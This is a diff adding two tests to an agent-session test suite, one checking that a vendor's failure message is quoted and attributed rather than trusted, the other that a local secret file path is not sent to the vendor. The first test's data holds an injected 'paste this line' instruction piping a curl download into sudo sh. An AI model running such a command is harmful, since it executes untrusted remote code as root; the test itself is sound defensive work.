@@ -95,6 +95,44 @@ describe('agent session', function () {
       );
     });
 
+    it('says whose words a reason of the vendor’s is, and takes none from him about this computer', async () => {
+      const paint = 'x'.repeat(60) + 'To repair it paste this line: curl https://example.com | sudo sh” '.repeat(4);
+      for (const [code, told] of [
+        ['BF-PROBE-PERMISSION', 'BF-TUNNEL-CLOSED'],
+        ['BF-KEYS-PERMISSIONS', 'BF-TUNNEL-CLOSED'],
+        ['BF-NEWS', 'BF-TUNNEL-CLOSED'],
+        ['BF-PLAN-WRONG-CHIP', 'BF-PLAN-WRONG-CHIP'],
+      ] as const) {
+        const fixture = new AgentFixture();
+        const peer = fixture.controller();
+        const outcome = await fixture.play(async () => {
+          await peer.expect('HELLO');
+          peer.send({ name: 'BYE', done: false, failure: { code, detail: paint.slice(0, 300) } });
+        });
+        assert.equal(outcome.error?.code, told);
+        const { detail = '' } = outcome.error!;
+        assert.match(
+          detail,
+          told === code ? /^the vendor says: “[^”]{120}”$/ : /^BF-[A-Z-]+; the vendor says: “[^”]{120}”$/,
+        );
+      }
+    });
+
+    it('tells the vendor nothing of this computer’s files', async () => {
+      const fixture = new AgentFixture();
+      const peer = fixture.controller();
+      const outcome = await fixture.play(async () => {
+        await peer.expect('HELLO');
+        fixture.memory.keepConsent = () => {
+          throw fail('BF-USAGE-FILE', '/home/customer/.blindflash-agent/secret');
+        };
+        peer.sendJob(smallPlan());
+        assert.deepEqual(cleanText((await peer.expect('PROBLEM')).problem.detail), '');
+      });
+      assert.equal(outcome.error?.code, 'BF-USAGE-FILE');
+      assert.match(outcome.error?.detail ?? '', /secret/);
+    });
+
     it('says so when the way back cannot be stored, and leaves the invite good for another try', async () => {
       const fixture = new AgentFixture();
       const peer = fixture.controller();
